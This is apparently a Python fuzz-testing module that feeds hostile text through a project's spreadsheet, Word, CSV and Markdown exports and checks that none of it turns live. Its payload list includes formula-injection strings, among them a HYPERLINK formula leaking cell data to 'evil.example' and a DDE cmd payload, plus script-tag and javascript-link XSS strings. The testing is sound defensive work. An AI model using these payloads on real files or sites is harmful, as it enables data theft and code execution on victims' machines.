"""Fuzzing the exports: hostile notes, names and agency names (formulas, characters XML refuses,
HTML and links, any Unicode) through every format, and each file checked the way its reader opens it.

    problems = check_all_formats(summary)   # [] when every file opens and shows user text as text

Used by bench/bench_fuzz.py (many examples, with figures) and tests/faults/test_fuzz_findings.py.
"""

from __future__ import annotations

import csv
import io

import docx
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from bot.render.exports import render_summary
from storage.summary import Summary

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The characters an attacker reaches for, mixed into otherwise random text.
_HOSTILE_PIECES = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Bấm")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "\ufffe",
    r"$\foo{$",  # matplotlib reads text between two "$" as a formula
    "\uffff",
    "\ufdd0",
    "\U0001fffe",
    "\x00",
    "\x01",
    "\x0b",
    "\x1b",
    "\x7f",
    "\x85",
    "|",
    "\\",
    "`",
    "*",
    "_",
    "\n",
]
hostile_text = st.lists(
    st.one_of(st.sampled_from(_HOSTILE_PIECES), st.text(max_size=12)), min_size=1, max_size=6
).map("".join)


def _markdown_problems(content: bytes) -> list[str]:
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(content.decode("utf-8"))
    bad = [marker for marker in ("<script", "<img", "<a ", 'href="javascript') if marker in html]
    return [f"md renders live markup: {bad}"] if bad else []


def _csv_problems(content: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    live = [cell for row in rows[1:] for cell in row if cell.startswith(FORMULA_STARTS)]
    return [f"csv cells a spreadsheet runs: {live[:3]!r}"] if live else []


def _xlsx_problems(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    formulas = [
        cell.coordinate for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
        if cell.data_type == "f"
    ]  # fmt: skip
    return [f"xlsx formulas at {formulas[:5]}"] if formulas else []


def _docx_problems(content: bytes) -> list[str]:
    docx.Document(io.BytesIO(content))
    return []


CHECKS = {"xlsx": _xlsx_problems, "docx": _docx_problems, "csv": _csv_problems, "md": _markdown_problems}


def check_all_formats(summary: Summary, *, language: str = "vi") -> list[str]:
    """Render `summary` in every format and open each file; what went wrong, if anything."""
    problems = []
    for fmt, check in CHECKS.items():
        try:
            document = render_summary(summary, fmt, language=language)
            problems += [f"{fmt}: {problem}" for problem in check(document.content)]
        except Exception as error:  # any failure to write or to open is what we look for
            problems.append(f"{fmt}: {type(error).__name__}: {error}"[:300])
    return problems


def plant(summary: Summary, notes: list[str], name: str, agency_name: str) -> None:
    """Put hostile text where users' text goes: notes and the writer's name of the latest updates,
    and an agency's name (it comes from imported plans)."""
    with_updates = [task for task in summary.tasks if task.latest is not None]
    for task, note in zip(with_updates, notes, strict=False):
        task.latest.note = note
        task.latest.member_name = name
    if summary.expected_agencies:
        summary.expected_agencies[0].name = agency_name
